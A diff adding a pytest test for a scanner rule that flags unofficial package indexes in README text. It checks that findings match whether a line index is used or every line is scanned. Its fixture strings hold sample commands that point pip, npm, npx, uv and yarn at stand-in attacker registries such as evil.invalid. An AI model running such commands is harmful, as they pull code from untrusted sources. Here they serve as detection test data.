@@ -373,6 +373,30 @@ def test_dependency_gates_keep_every_finding(monkeypatch: pytest.MonkeyPatch) ->
     assert sum(map(len, gated)) >= 4
 
 
+def test_index_lines_equal_every_line(monkeypatch: pytest.MonkeyPatch) -> None:
+    texts = [
+        "pip install --index-url https://evil.invalid/simple x",
+        "intro\n\nexport PIP_INDEX_URL=https://mirror.invalid/simple\nnpm i left-pad",
+        "a\nnpx --yes x --registry=https://npm.evil.invalid\nb\nnpm config set registry "
+        "https://r.invalid/\r\nYARN_NPM_REGISTRY_SERVER=https://y.invalid\n",
+        "UV_DEFAULT_INDEX=https://u.invalid/simple\npip3 config set global.index-url "
+        "https://p.invalid/simple",
+        *EXAMPLE_TEXTS,
+    ]
+    on_candidates = [dependencies.dependency_findings("README.md", t) for t in texts]
+
+    class _EveryLine:
+        def __init__(self, text: str) -> None:
+            self.count = len(text.splitlines())
+
+        def candidates(self, _regexes: object) -> range:
+            return range(1, self.count + 1)
+
+    monkeypatch.setattr(dependencies, "line_index", _EveryLine)
+    assert on_candidates == [dependencies.dependency_findings("README.md", t) for t in texts]
+    assert sum(f.rule_id == "dependency.unofficial-index" for fs in on_candidates for f in fs) >= 6
+
+
 def test_tag_range_is_the_max_character_test() -> None:
     for text in ["", "abc", "\u00e9", "\U0001f600", "a\U000e0041", "\U0010fffd", "\U000dffff"]:
         assert bool(_TAG_RANGE.search(text)) == (max(text, default="") >= "\U000e0000"), text
